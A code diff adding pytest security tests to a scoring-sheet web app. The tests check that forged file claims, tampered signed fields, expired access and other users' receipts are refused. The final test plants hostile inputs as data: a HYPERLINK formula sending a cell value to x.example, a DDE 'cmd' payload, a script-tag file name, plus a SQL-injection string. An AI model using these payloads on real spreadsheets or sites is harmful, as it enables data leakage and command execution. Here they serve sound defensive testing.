@@ -9,13 +9,18 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from openpyxl import load_workbook
 from openpyxl.workbook import Workbook
 
 from award.tables import book_values, extent
 from award.tables.refusing import Wrong
 from exports.score_sheet_layout import CHECK_KEY, ENTRY_KEY, KEYS, Identity
-from tests.award.filled_sheets import ABOUT, changed, changes_of, filled, read, refusal, written
+from tests.award.filled_sheets import changed, changes_of, filled, read, refusal, written
+from tests.award.hostile import everything, signed_in
+from tests.award.scoring_day import ScoringDay, build_day, new_key
+from tests.award.test_score_sheets_pages import COMMITMENT, download, fill, sealed_in, store, stored, upload
 
+ABOUT_EN, SECRET = "About this file", "SECRET-73"
 SHEET = "xl/worksheets/sheet1.xml"
 SAVED = Path(__file__).parents[1] / "data" / "score_sheets"
 MAIN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
@@ -43,20 +48,20 @@ def cell(content: bytes, at: str = "E8") -> bytes:
     return repacked(written(), changes={SHEET: lambda xml: place.sub(content, xml, count=1)})
 
 
-def claiming(data: bytes, edit: Callable[[Any], None]) -> bytes:
+def claiming(data: bytes, edit: Callable[[Any], None], *, page: str) -> bytes:
     """The sheet with what it says of itself edited, and its check digits made to fit: they are no secret."""
 
     def write(book: Workbook) -> None:
-        page = book[ABOUT]
-        edit(page)
-        rows = {page.cell(row, 2).value: row for row in range(1, page.max_row + 1)}
+        about = book[page]
+        edit(about)
+        rows = {about.cell(row, 2).value: row for row in range(1, about.max_row + 1)}
         entries = tuple(
-            tuple(str(page.cell(row, column).value or "") for column in (3, 4, 5))
-            for row in range(1, page.max_row + 1)
-            if page.cell(row, 2).value == ENTRY_KEY
+            tuple(str(about.cell(row, column).value or "") for column in (3, 4, 5))
+            for row in range(1, about.max_row + 1)
+            if about.cell(row, 2).value == ENTRY_KEY
         )
-        told = {key: str(page.cell(rows[key], 3).value) for key in KEYS}
-        page.cell(rows[CHECK_KEY], 3).value = Identity(**told, entries=entries).check  # type: ignore[arg-type]
+        told = {key: str(about.cell(rows[key], 3).value) for key in KEYS}
+        about.cell(rows[CHECK_KEY], 3).value = Identity(**told, entries=entries).check  # type: ignore[arg-type]
 
     return changed(data, write)
 
@@ -210,3 +215,114 @@ def test_an_old_file_that_leads_its_reader_astray_harms_nobody_else() -> None:
         with pytest.raises(Wrong) as refused:
             book_values.values_apart(harm)
         assert refused.value.code == "xlsx_damaged"
+
+
+@pytest.fixture
+def day(tmp_path: Path) -> ScoringDay:
+    return build_day(tmp_path)
+
+
+@pytest.mark.parametrize("revision", ["²", "٣", "9" * 5000, "-1", "1e9", "None"])
+def test_a_revision_that_the_file_made_up_is_no_reason_to_believe_it(day: ScoringDay, revision: str) -> None:
+    day.open()
+    member = signed_in(day.site, "z9-member")
+    day.save(member, day.card("z9-member"), {"d1/commitment": "2"})
+    data = fill(download(member, day.first_slot), {COMMITMENT: 4})
+    shown = upload(member, day.first_slot, claiming(data, says(ENTRY_KEY, revision, column=5), page=ABOUT_EN))
+    assert shown.status_code == 200, "its card's past is not known"
+    assert "This card was saved after the sheet was downloaded." in shown.text
+
+
+def test_a_file_that_claims_to_be_anothers_or_of_another_slot_is_still_only_the_members_own(day: ScoringDay) -> None:
+    """Check digits are no secret. What the file says decides nothing: it is held against the database."""
+    day.open()
+    member, chair = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair")
+    day.save(chair, day.card("z9-chair"), {"d1/commitment": "5", "note:d1/commitment": SECRET})
+    data = fill(download(member, day.first_slot), {COMMITMENT: 1})
+    for key, value in (("member", "z9-chair"), ("cycle", "2565"), ("stage", "national"), ("rules_sha256", "0" * 64)):
+        refused = upload(member, day.first_slot, claiming(data, says(key, value), page=ABOUT_EN))
+        assert refused.status_code == 422 and SECRET not in refused.text
+    for code in ("to-22", "to-23' or 1=1", "wf-a-23"):
+        assert upload(
+            member, day.first_slot, claiming(data, says(ENTRY_KEY, code), page=ABOUT_EN)
+        ).status_code == 422  # fmt: skip
+    taken = fill(download(chair, day.first_slot), {COMMITMENT: 1})
+    mine = upload(member, day.first_slot, claiming(taken, says("member", "z9-member"), page=ABOUT_EN))
+    assert store(member, day.first_slot, sealed_in(mine) | {"overwrite": "yes"}).status_code == 303
+    assert stored(day, day.card("z9-chair")) == [(1, "d1/commitment", 50_000, SECRET)]
+    assert stored(day, day.card("z9-member"))[0][1:3] == ("d1/commitment", 10_000)
+
+
+def test_a_confirmed_preview_counts_for_its_person_its_slot_and_its_moment_only(day: ScoringDay) -> None:
+    day.open()
+    member, chair, card = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair"), day.card("z9-member")
+    fields = sealed_in(upload(member, day.first_slot, fill(download(member, day.first_slot), {COMMITMENT: 4})))
+    now = {name: rows for name, rows in everything(day.site).items() if name != "sign_in"}
+    outsiders = (("z9-chair", day.first_slot), ("z9-member", day.slots[1]), ("z10-member", day.first_slot))
+    for login, slot in (*outsiders, ("organizer", day.first_slot), ("p23", day.first_slot)):
+        assert store(signed_in(day.site, login), slot, fields).status_code in (403, 404, 422)
+    for changes in ("", "x", "e30.x", fields["changes"].swapcase(), fields["changes"].split(".")[0], "[" * 10_000):
+        assert store(member, day.first_slot, fields | {"changes": changes}).status_code == 422
+    for key in ("", "x", "k" * 5000):
+        assert store(member, day.first_slot, fields | {"key": key}).status_code == 422
+    secret, day.site.app.config["SECRET_KEY"] = day.site.app.config["SECRET_KEY"], "another secret"
+    assert store(member, day.first_slot, fields).status_code == 422
+    day.site.app.config["SECRET_KEY"] = secret
+    assert {name: rows for name, rows in everything(day.site).items() if name != "sign_in"} == now
+    assert store(member, day.first_slot, fields).status_code == 303
+    assert store(member, day.first_slot, fields).status_code == 303, "the same key: the first receipt"
+    assert store(member, day.first_slot, fields | {"key": new_key()}).status_code == 409
+    assert len(stored(day, card)) == 1
+    assert store(chair, day.first_slot, fields).status_code == 422
+
+
+def test_a_preview_from_before_the_slot_closed_is_no_way_in_afterwards(day: ScoringDay) -> None:
+    day.open()
+    member, card = signed_in(day.site, "z9-member"), day.card("z9-member")
+    data = fill(download(member, day.first_slot), {COMMITMENT: 1})
+    fields = sealed_in(upload(member, day.first_slot, data))
+    day.change("update slot set state = 'closed', closed_at = '2021-07-19T02:00:00.000000Z' where id = :id",
+               id=day.first_slot)  # fmt: skip
+    assert store(member, day.first_slot, fields).status_code == 423
+    shut = upload(member, day.first_slot, data)
+    assert shut.status_code == 200 and 'name="changes"' not in shut.text
+    assert stored(day, card) == []
+
+
+def test_a_preview_from_before_the_duty_ended_is_no_way_in_afterwards(day: ScoringDay) -> None:
+    day.open()
+    member = signed_in(day.site, "z9-member")
+    fields = sealed_in(upload(member, day.first_slot, fill(download(member, day.first_slot), {COMMITMENT: 1})))
+    day.change("update duty set to_day = '2021-07-01' where user_id = (select id from user where login = 'z9-member')")
+    assert store(member, day.first_slot, fields).status_code in (403, 404)
+    assert stored(day, day.card("z9-member")) == []
+
+
+def test_nobody_is_shown_a_receipt_that_is_another_persons(day: ScoringDay) -> None:
+    """A link with somebody else's receipt would make a member believe that their own sheet is stored."""
+    day.open()
+    member, chair = signed_in(day.site, "z9-member"), signed_in(day.site, "z9-chair")
+    fields = sealed_in(upload(chair, day.first_slot, fill(download(chair, day.first_slot), {COMMITMENT: 4})))
+    link = store(chair, day.first_slot, fields).location
+    assert "The sheet is stored." in chair.get(link).text
+    assert "The sheet is stored." not in member.get(link).text
+    other = link.replace(f"/slot/{day.first_slot}/", f"/slot/{day.slots[1]}/")
+    assert "The sheet is stored." not in chair.get(other).text
+
+
+def test_texts_that_look_like_formulas_come_out_of_a_sheet_as_texts(day: ScoringDay) -> None:
+    day.open()
+    evil = '=HYPERLINK("http://x.example/"&E8,"ดู")'
+    day.change("update entry set label = :evil where code = 'to-23'", evil=evil)
+    day.change("update duty set title_th = :evil, title_en = :evil where role = 'member'", evil="+1+cmd|' /C calc'!A0")
+    member = signed_in(day.site, "z9-member")
+    assert day.save(member, day.card("z9-member"), {"note:d1/commitment": f"@{evil}\u202e"}).status_code == 200
+    data = download(member, day.first_slot)
+    cells = [cell for page in load_workbook(io.BytesIO(data)) for row in page.iter_rows() for cell in row]
+    assert {cell.value for cell in cells if cell.data_type == "s"} >= {f"@{evil}"}
+    assert any(cell.data_type == "s" and evil in str(cell.value) for cell in cells)
+    formulas = " ".join(str(cell.value) for cell in cells if cell.data_type == "f")
+    assert formulas and "HYPERLINK" not in formulas and "cmd" not in formulas
+    back = upload(member, day.first_slot, data, name='=cmd|"<script>alert(1)</script>.xlsx')
+    assert back.status_code == 200 and "<script>alert" not in back.text
+    assert 'name="changes"' not in back.text, "what went out comes back unchanged"
